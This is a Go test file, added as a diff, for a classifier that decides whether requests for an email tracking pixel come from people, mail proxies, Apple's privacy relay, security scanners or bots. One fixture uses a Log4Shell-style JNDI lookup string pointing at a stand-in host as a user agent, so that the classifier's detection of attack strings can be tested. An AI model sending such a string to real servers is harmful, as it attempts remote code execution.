@@ -1,0 +1,163 @@
+package classify
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+const (
+	uaChrome    = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
+	uaOldChrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/58.0.3029.110 Safari/537.36"
+	uaBare      = "Mozilla/5.0"
+	uaWebKit    = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
+	uaIPhone    = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
+	uaGmail     = "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"
+	uaPrefetch  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 Safari/537.36 Edge/12.246 Mozilla/5.0"
+	uaYahoo     = "YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html"
+	uaOutlook   = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0; Microsoft Outlook 16.0.17328; ms-office; MSOffice 16)"
+	uaOWA       = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/35 Safari/537.36"
+	uaPresto    = "Opera/9.80 (Windows NT 6.1; U; de) Presto/2.10.229 Version/11.62"
+
+	browserHeaders = DestImage | ModeNoCors | AcceptPresent | AcceptImageFirst | AcceptLanguagePresent | AcceptEncodingPresent
+	scriptHeaders  = AcceptPresent | AcceptEncodingPresent
+)
+
+func sent(ago time.Duration, r Request) Request {
+	r.SinceSend, r.SentKnown = ago, true
+	return r
+}
+
+var ruleCases = []struct {
+	name    string
+	request Request
+	class   Class
+	reason  string
+}{
+	{"HEAD shows no image", Request{Method: "HEAD", UserAgent: uaOutlook, Network: "none"}, NotImage, "method"},
+	{"the case of the method does not matter", Request{Method: "get", UserAgent: uaChrome, Network: "none"}, HumanDirect, "browser"},
+	{"a prefetching browser shows nothing yet", Request{UserAgent: uaChrome, Headers: Prefetch | DestEmpty}, NotImage, "hdr_prefetch"},
+	{"a preview is a prefetch", Request{UserAgent: uaChrome, Headers: Preview}, NotImage, "hdr_prefetch"},
+	{"the pixel opened as a page is no open", Request{UserAgent: uaChrome, Headers: DestOther | ModeNavigate}, NotImage, "hdr_navigate"},
+	{"asking for HTML first is opening a page", Request{UserAgent: uaOldChrome, Headers: AcceptPresent | AcceptHTMLFirst}, NotImage, "hdr_navigate"},
+	{"an image asked for with HTML first is an image", Request{UserAgent: uaChrome, Network: "none", Headers: DestImage | AcceptHTMLFirst}, HumanDirect, "browser"},
+	{"old Opera asks for HTML even for images", Request{UserAgent: uaPresto, Network: "none", Headers: AcceptHTMLFirst}, HumanDirect, "browser"},
+	{"no Accept header overrules a mail client", Request{UserAgent: uaOutlook, Network: "none", Headers: AcceptHTMLFirst}, HumanDirect, "mail_client"},
+
+	{"Gmail prefetches from Google", Request{UserAgent: uaPrefetch, ASNumber: 15169}, MachinePrefetch, "gmail_prefetch"},
+	{"Gmail's prefetch from elsewhere is contested", Request{UserAgent: uaPrefetch, ASNumber: 64496, Network: "none"}, Unknown, "proxy_elsewhere"},
+	{"Gmail's prefetch without an AS is contested", Request{UserAgent: uaPrefetch, Network: "none"}, Unknown, "proxy_elsewhere"},
+	{"Gmail's proxy from Google is a person", Request{UserAgent: uaGmail, ASNumber: 15169, ProxyType: "hosting"}, ProxyHuman, "proxy_gmail"},
+	{"Gmail's proxy is believed where no AS is known", Request{UserAgent: uaGmail}, ProxyHuman, "proxy_gmail"},
+	{"Gmail's proxy from elsewhere is forged", Request{UserAgent: uaGmail, ASNumber: 64496, Network: "none"}, Unknown, "proxy_elsewhere"},
+	{"Gmail's proxy is never judged by time", sent(time.Second, Request{UserAgent: uaGmail, ASNumber: 15169, Network: "hosting", Headers: scriptHeaders}), ProxyHuman, "proxy_gmail"},
+	{"a proxy in a hosting network is still a proxy", sent(time.Second, Request{UserAgent: uaYahoo, Network: "hosting"}), ProxyHuman, "proxy_yahoo"},
+
+	{"Fastmail's proxy stands behind a browser's name", Request{UserAgent: uaChrome + " FastmailUA/1.0", Network: "hosting"}, ProxyHuman, "proxy_fastmail"},
+
+	{"MPP is the bare user agent from the relay", Request{UserAgent: uaBare, Network: "apple_relay"}, MachinePrefetch, "apple_mpp"},
+	{"Fastly's description is enough for the relay", Request{UserAgent: uaBare, ProxyDescription: "apple"}, MachinePrefetch, "apple_mpp"},
+	{"Fastly's type is enough for the relay", Request{UserAgent: uaBare, ProxyType: "consumer-privacy"}, MachinePrefetch, "apple_mpp"},
+	{"MPP late is still MPP", sent(48*time.Hour, Request{UserAgent: uaBare, Network: "apple_relay"}), MachinePrefetch, "apple_mpp"},
+	{"bare WebKit from the relay is weaker MPP", Request{UserAgent: uaWebKit, Network: "apple_relay"}, MachinePrefetch, "apple_mpp_webkit"},
+	{"Safari through the relay is a person", Request{UserAgent: uaWebKit + " Version/17.4 Safari/605.1.15", Network: "apple_relay"}, HumanDirect, "browser"},
+	{"relay is tested before hosting", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "apple"}, HumanDirect, "browser"},
+
+	{"a scanner that names itself", Request{UserAgent: "Barracuda Sentinel (EE)", Network: "none"}, SecurityScanner, "scanner_ua"},
+	{"code instead of a name", Request{UserAgent: "${jndi:ldap://192.0.2.1/a}", Network: "none"}, SecurityScanner, "attack_ua"},
+	{"Outlook in a scanner's network is the scanner", Request{UserAgent: uaOutlook, Network: "scanner:microsoft-365-protection"}, SecurityScanner, "scanner_net"},
+	{"Outlook on the web fetches from Microsoft", Request{UserAgent: uaOWA, ASNumber: 8075, Network: "hosting"}, ProxyHuman, "proxy_outlook"},
+	{"bare WebKit from Microsoft is Outlook's", Request{UserAgent: uaWebKit, ASNumber: 8075, Network: "hosting"}, ProxyHuman, "proxy_outlook"},
+	{"a browser from Microsoft is no scanner for that", Request{UserAgent: uaChrome, ASNumber: 8075, Network: "none"}, HumanDirect, "browser"},
+	{"a chat's preview", Request{UserAgent: "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", Network: "none"}, LinkPreview, "link_preview"},
+	{"a browser without a screen", Request{UserAgent: strings.Replace(uaChrome, "Chrome/", "HeadlessChrome/", 1), Network: "none"}, Headless, "headless"},
+	{"somebody's image proxy is not known", Request{UserAgent: "github-camo (4b76e509)", Network: "none"}, Unknown, "image_proxy"},
+
+	{"Outlook at home is a person", Request{UserAgent: uaOutlook, Network: "none"}, HumanDirect, "mail_client"},
+	{"Outlook without network facts is a person", Request{UserAgent: uaOutlook}, HumanDirect, "mail_client"},
+	{"a fast Outlook is a person", sent(time.Second, Request{UserAgent: uaOutlook, Network: "none", Headers: scriptHeaders}), HumanDirect, "mail_client"},
+	{"Outlook in a data centre is not known", Request{UserAgent: uaOutlook, Network: "hosting"}, Unknown, "hosting"},
+	{"a fast Outlook in a data centre is a sandbox", sent(time.Second, Request{UserAgent: uaOutlook, Network: "hosting"}), SecurityScanner, "fast_open"},
+	{"a library", Request{UserAgent: "python-requests/2.32.3", Network: "none"}, HTTPLibrary, "http_library"},
+	{"a program without a platform that names its library", Request{UserAgent: "Glorp 3 OkHttp/4.9.3", Network: "none"}, HTTPLibrary, "http_library"},
+	{"a task where no browser speaks", Request{UserAgent: "Glorp link search", Network: "none"}, Bot, "bot_token"},
+	{"a lone product and version", Request{UserAgent: "glorp/0.3", Network: "none"}, HTTPLibrary, "product_only"},
+	{"an app that names its library after itself is not known", Request{UserAgent: "Tusky/17.0 Android/11 OkHttp/4.9.3", Network: "none"}, Unknown, "other"},
+	{"a crawler", Request{UserAgent: "Zorblex crawler", Network: "none"}, Bot, "bot_token"},
+	{"a crawler with a mail client's name", Request{UserAgent: "Thunderbird-like crawler bot", Network: "none"}, Bot, "bot_token"},
+	{"an address for complaints", Request{UserAgent: uaChrome + " (+https://example.com/about)", Network: "none"}, Bot, "bot_address"},
+	{"compatible with nothing", Request{UserAgent: "Mozilla/5.0 (compatible; Glorpulator/3.1)", Network: "none"}, Bot, "bot_shape"},
+
+	{"fast from a data centre", sent(9*time.Second, Request{UserAgent: uaChrome, Network: "hosting", Headers: browserHeaders}), SecurityScanner, "fast_open"},
+	{"fast and without a browser's headers", sent(9*time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: scriptHeaders}), SecurityScanner, "fast_open"},
+	{"fast with a browser's headers is a person", sent(time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: browserHeaders}), HumanDirect, "browser"},
+	{"fast without any recorded header is a person", sent(time.Second, Request{UserAgent: uaChrome, Network: "none"}), HumanDirect, "browser"},
+	{"an old browser has no such headers", sent(time.Second, Request{UserAgent: uaOldChrome, Network: "none", Headers: scriptHeaders}), HumanDirect, "browser"},
+	{"slow without a browser's headers is a person", sent(10*time.Second, Request{UserAgent: uaChrome, Network: "none", Headers: scriptHeaders}), HumanDirect, "browser"},
+	{"a time that is not known says nothing", Request{UserAgent: uaChrome, Network: "none", Headers: scriptHeaders, SinceSend: time.Second}, HumanDirect, "browser"},
+	{"before the send time is fast", sent(-time.Second, Request{UserAgent: uaChrome, Network: "hosting"}), SecurityScanner, "fast_open"},
+	{"a mail gateway's network has the wider window", sent(4*time.Minute, Request{UserAgent: uaChrome, ASNumber: 22843, Network: "none", Headers: browserHeaders}), SecurityScanner, "fast_open"},
+	{"later it is a person in an isolated browser", sent(5*time.Minute, Request{UserAgent: uaChrome, ASNumber: 22843, Network: "none", Headers: browserHeaders}), HumanDirect, "browser"},
+	{"a data centre early", sent(4*time.Minute, Request{UserAgent: uaChrome, Network: "hosting"}), SecurityScanner, "hosting"},
+	{"a data centre late", sent(5*time.Minute, Request{UserAgent: uaChrome, Network: "hosting"}), Unknown, "hosting"},
+	{"a data centre without a send time", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "cloud"}, Unknown, "hosting"},
+	{"a web security service is where staff browse", Request{UserAgent: uaChrome, ProxyType: "hosting", ProxyDescription: "cloud-security"}, HumanDirect, "browser"},
+	{"the recorded network goes before the proxy fields", Request{UserAgent: uaChrome, Network: "none", ProxyType: "hosting"}, HumanDirect, "browser"},
+
+	{"webmail around the image", Request{UserAgent: "Paperboy for Windows", RefererHost: "Outlook.Live.com", Network: "none"}, HumanDirect, "referer_webmail"},
+	{"bare Mozilla off the relay is Apple Mail", Request{UserAgent: uaBare, Network: "none"}, HumanDirect, "apple_mail_direct"},
+	{"bare Mozilla without network facts is not known", Request{UserAgent: uaBare}, Unknown, "apple_mail_unplaced"},
+	{"bare Mozilla in a data centre is not known", Request{UserAgent: uaBare, Network: "hosting"}, Unknown, "hosting"},
+	{"Apple Mail on a phone", Request{UserAgent: uaIPhone, Network: "none"}, HumanDirect, "apple_mail_direct"},
+	{"a phone app's network code", Request{UserAgent: "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7)", Network: "none"}, HumanDirect, "browser"},
+	{"a program that calls itself mail", Request{UserAgent: "GrandpaMail/4.2 (Linux)", Network: "none"}, HumanDirect, "mail_name"},
+	{"no user agent proves nothing", Request{Network: "none"}, Unknown, "other"},
+}
+
+func TestRules(t *testing.T) {
+	used := map[string]bool{"": true} // the proxies bring their own reasons
+	for _, c := range ruleCases {
+		used[c.reason] = true
+		if got := Judge(&c.request); got.Class != c.class || got.Reason != c.reason {
+			t.Errorf("%s: got %s/%s, want %s/%s", c.name, got.Class, got.Reason, c.class, c.reason)
+		}
+	}
+	for i := range rules {
+		if !used[rules[i].reason] {
+			t.Errorf("no case for rule %q", rules[i].reason)
+		}
+	}
+}
+
+func TestEveryRuleCanDecide(t *testing.T) {
+	agents := readAgents(t)
+	fired := map[int]bool{}
+	note := func(r *Request) {
+		known := read(r.UserAgent).traits | requestTraits(r)
+		for i := range rules {
+			if rules[i].fits(known) {
+				fired[i] = true
+				return
+			}
+		}
+	}
+	for i := range ruleCases {
+		note(&ruleCases[i].request)
+	}
+	for _, a := range agents {
+		note(&Request{UserAgent: a.userAgent, Network: NetworkNone})
+	}
+	for i := range rules {
+		if !fired[i] {
+			t.Errorf("rule %d (%s) never decides: no test, or hidden by the rules before it", i, rules[i].reason)
+		}
+	}
+}
+
+func TestMPPReasonsBeginAlike(t *testing.T) {
+	for i := range rules {
+		if r := &rules[i]; strings.HasPrefix(r.reason, "apple_mpp") != (r.class == MachinePrefetch && r.all&onRelay != 0) {
+			t.Errorf("rule %q: the views count machine_prefetch whose reason begins apple_mpp", r.reason)
+		}
+	}
+}
